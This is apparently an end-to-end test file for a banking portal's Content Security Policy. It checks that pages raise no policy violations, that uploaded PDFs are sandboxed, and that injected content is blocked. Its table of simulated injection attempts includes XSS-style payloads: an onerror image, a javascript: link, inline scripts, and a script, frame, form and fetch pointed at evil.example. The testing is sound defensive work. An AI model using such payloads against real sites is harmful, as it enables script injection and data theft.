import { existsSync, readFileSync } from 'node:fs';
import { type Browser, chromium, type Locator } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { launch, ofPolicy, person } from '../fixtures/chromium.ts';
import { choosePaper, held, slot } from '../fixtures/pages/enrollment.ts';
import { longPdf, type Paper } from '../fixtures/papers.ts';
import { comeIn } from '../fixtures/portal-pages.ts';
import { type Portal, startPortal } from '../fixtures/portal.ts';
import { sample } from '../fixtures/sample.ts';
import { memberAt } from '../fixtures/scene.ts';
import { followLoads } from '../fixtures/settled.ts';

const password = 'demo-Portal-2026';

let portal: Portal;
let browser: Browser;
beforeAll(async () => {
  [portal, browser] = await Promise.all([startPortal(), launch({ mayComplain: true })]);
});
afterAll(async () => {
  await browser?.close();
  await portal?.stop();
});

/** A page, what it did against the policy, and a way to know that it does nothing any more. */
async function watched(email?: string) {
  const context = await person(browser, portal.url);
  const complaints: string[] = [];
  await context.exposeFunction('tellComplaint', (words: string) => void complaints.push(words));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell: (words: string) => void = Reflect.get(window, 'tellComplaint');
      tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  context.on('console', (said) => void (ofPolicy.test(said.text()) && complaints.push(said.text())));
  const page = await context.newPage();
  const settled = followLoads(page);
  if (email !== undefined) await comeIn(page, email, password);
  return { page, complaints, settled };
}

const publicPages = ['/', '/login', '/signup', '/404'];
const busiest: Readonly<Record<string, readonly string[]>> = {
  'validated@demo.test': [
    '/user/dashboard',
    '/user/bank_operations/money_out',
    '/user/bank_operations/transactions',
    '/user/account',
  ],
  'admin@demo.test': [
    '/admin/dashboard',
    '/admin/manage_users',
    '/admin/bank_operations/bank_transactions',
    '/admin/business/kyc_validation/user_id/{company}',
    '/admin/reports/',
  ],
};

describe('with the headers that a member gets', () => {
  it('the public pages are drawn with their style, and do nothing against the policy', async () => {
    const { page, complaints, settled } = await watched();
    for (const path of publicPages) {
      await page.goto(path);
      await page.locator('h1').first().waitFor();
      await settled();
      expect(await page.evaluate(() => document.querySelectorAll('[style]:not(svg *)').length)).toBe(0);
    }
    const drawn = await page.context().browser()?.newContext({ javaScriptEnabled: false });
    const still = await drawn?.newPage();
    await still?.goto(`${portal.url}/login`);
    const margin = await still?.locator('body').evaluate((body) => getComputedStyle(body).margin);
    expect(margin).toBe('0px');
    await drawn?.close();
    expect(complaints).toEqual([]);
  });

  it.each(Object.entries(busiest))('%s finds nothing on the busiest screens', async (email, paths) => {
    const { page, complaints, settled } = await watched(email);
    for (const path of [...sample(paths.slice(0, -1), 1), ...paths.slice(-1)]) {
      const found = path.includes('{company}')
        ? await page.request.get('/api/v1/users?search=business@demo.test')
        : null;
      const [company] = z.array(z.looseObject({ id: z.string() })).parse((await found?.json()) ?? []);
      await page.goto(path.replace('{company}', company?.id ?? ''));
      await page.locator('h1').first().waitFor();
      await settled();
    }
    if (email.startsWith('validated')) {
      await page.locator('#second-factor section + section button:visible').first().click();
      await page.locator('[role=dialog] input').fill(password);
      await page.keyboard.press('Enter');
      await page.locator('#second-factor code').waitFor();
    }
    expect(complaints).toEqual([]);
  });

  it('a paper is sent and looked at, though its reader works in a thread of its own', async () => {
    const { page, complaints } = await watched('investor@demo.test');
    await page.goto('/user/enrollment/step4/individual');
    await choosePaper(page, 'identity_front', await longPdf(2, 'statuts.pdf'));
    await held(page, 'identity_front', 'statuts.pdf');
    await slot(page, 'identity_front').getByRole('link', { name: /^View/ }).click();
    await page.getByRole('dialog').getByRole('img', { name: 'Page 1', exact: true }).waitFor();
    const workers = page.workers().map((worker) => new URL(worker.url()).pathname);
    expect(workers).toEqual([expect.stringMatching(/^\/assets\/pdf\.worker/)]);
    expect(complaints).toEqual([]);
  });
});

type Try = {
  /** what is complained of, by the page or on its console */
  readonly against: RegExp;
  /** writes `window.fell` when it works, as far as the page can tell */
  readonly attempt: () => void;
};
const code = /\b(script-src|require-trusted-types-for|TrustedScript|TrustedHTML)/;

/** A Chromium with its windows: the headless build has no reader of PDFs. */
const whole = [process.env.CHROMIUM_PATH ?? '', '/usr/bin/chromium'].find(
  (path) => existsSync(path) && !path.includes('headless'),
);
const reader =
  "that a browser's own reader draws the paper; a Chromium with its windows shows it (Debian: chromium)";

/** The address of a paper whose tab the browser's reader has drawn. */
async function readByBrowser(link: Locator): Promise<string> {
  const opened = link.page().context().waitForEvent('page');
  await link.click({ modifiers: ['ControlOrMeta'] });
  const tab = await opened;
  const shown = () => tab.frames().find((frame) => frame.url().startsWith('chrome-extension:'));
  await expect.poll(() => shown()?.locator('#pagelength').innerText(), { timeout: 15_000 }).toBe('2');
  return tab.url();
}

/** The address of a paper whose tab, in a browser without a reader, has kept it as a file, byte for byte. */
async function keptByBrowser(link: Locator, paper: Paper): Promise<string> {
  const address = z.string().parse(await link.getAttribute('href'));
  const tab = await link.page().context().newPage();
  const coming = tab.waitForEvent('download');
  // which leads the tab nowhere
  await tab.goto(address).catch(() => undefined);
  const file = await coming;
  expect(file.suggestedFilename()).toBe(paper.name);
  expect(paper.content.equals(readFileSync(await file.path()))).toBe(true);
  return address;
}

it('a PDF in a tab of its own is shown, or kept where the browser reads none, though it may do nothing', async ({
  task,
}) => {
  const args = ['--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run'];
  const own = whole ? await chromium.launch({ executablePath: whole, headless: false, args }) : null;
  onTestFinished(() => own?.close());
  const page = await memberAt(own ?? browser, portal, 'lectrice', 4);
  const paper = await longPdf(2, 'statuts.pdf');
  await choosePaper(page, 'identity_front', paper);
  await held(page, 'identity_front', 'statuts.pdf');
  const link = slot(page, 'identity_front').getByRole('link', { name: /^View/ });
  if (own === null) Object.assign(task.meta, { unseen: reader });
  const address = own === null ? await keptByBrowser(link, paper) : await readByBrowser(link);
  const { 'content-security-policy': policy } = (await page.context().request.get(address)).headers();
  expect(policy).toMatch(/sandbox$/);
});

/** What somebody would try who got a word into the page. */
const tries: Readonly<Record<string, Try>> = {
  'a script of words': {
    against: code,
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'window.fell = true';
      document.body.append(script);
    },
  },
  'a script from elsewhere': {
    against: code,
    attempt: () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://evil.example/x.js');
      document.body.append(script);
    },
  },
  'code out of words': {
    against: code,
    attempt: () => {
      // a moment later: what a test evaluates is allowed to
      setTimeout(() => Reflect.construct(Function, ['window.fell = true'])());
    },
  },
  'markup out of words': {
    against: code,
    attempt: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.fell = true">');
    },
  },
  'an element that listens': {
    against: code,
    attempt: () => {
      document.body.setAttribute('onclick', 'window.fell = true');
      document.body.click();
    },
  },
  'an address that is code': {
    against: code,
    attempt: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.fell=true';
      document.body.append(link);
      link.click();
    },
  },
  'a worker of words': {
    against: code,
    attempt: () => {
      const address = URL.createObjectURL(new Blob(['postMessage(1)']));
      new Worker(address).addEventListener('message', () => Reflect.set(window, 'fell', true));
    },
  },
  'a policy of its own': {
    against: /\btrusted-types\b/,
    attempt: () => {
      const types: { createPolicy: (name: string, rules: object) => unknown } = Reflect.get(
        window,
        'trustedTypes',
      );
      types.createPolicy('evil', { createHTML: String });
      Reflect.set(window, 'fell', true);
    },
  },
  'a style of words': {
    against: /\bstyle-src/,
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { z-index: 77 }';
      document.body.append(style);
      if (getComputedStyle(document.body).zIndex === '77') Reflect.set(window, 'fell', true);
    },
  },
  'a style in an element': {
    against: /\bstyle-src/,
    attempt: () => {
      document.body.setAttribute('style', 'z-index: 77');
      if (getComputedStyle(document.body).zIndex === '77') Reflect.set(window, 'fell', true);
    },
  },
  'a frame of another site': {
    against: /\bframe-src\b/,
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  },
  'a form to another site': {
    against: /\bform-action\b/,
    attempt: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  },
  'words sent away': {
    against: /\bconnect-src\b/,
    attempt: () => {
      void fetch('https://evil.example/').catch(() => undefined);
    },
  },
};

describe('a word that got into the page', () => {
  it('runs nothing, styles nothing and sends nothing', async () => {
    const { page, complaints } = await watched();
    await page.goto('/login');
    await page.locator('h1').waitFor();
    for (const [name, { against, attempt }] of Object.entries(tries)) {
      complaints.length = 0;
      await page.evaluate(attempt).catch(() => undefined);
      // each is told twice: what comes late of the try before is about something else
      await expect.poll(() => complaints.some((words) => against.test(words)), { message: name }).toBe(true);
      expect([name, z.unknown().parse(await page.evaluate(() => Reflect.get(window, 'fell')))]).toEqual([
        name,
        undefined,
      ]);
      expect(new URL(page.url()).pathname).toBe('/login');
    }
  });

  it('fails any test in which it happens', async () => {
    const heard = await launch();
    const page = await (await person(heard, portal.url)).newPage();
    await page.goto('/login');
    const said = page.waitForEvent('console', (message) => ofPolicy.test(message.text()));
    await page.evaluate(tries['a style in an element']?.attempt ?? (() => undefined));
    await said;
    await expect(heard.close()).rejects.toThrow(/ran into the portal's policy[^]*\/login: [^]*style-src/);
  });
});
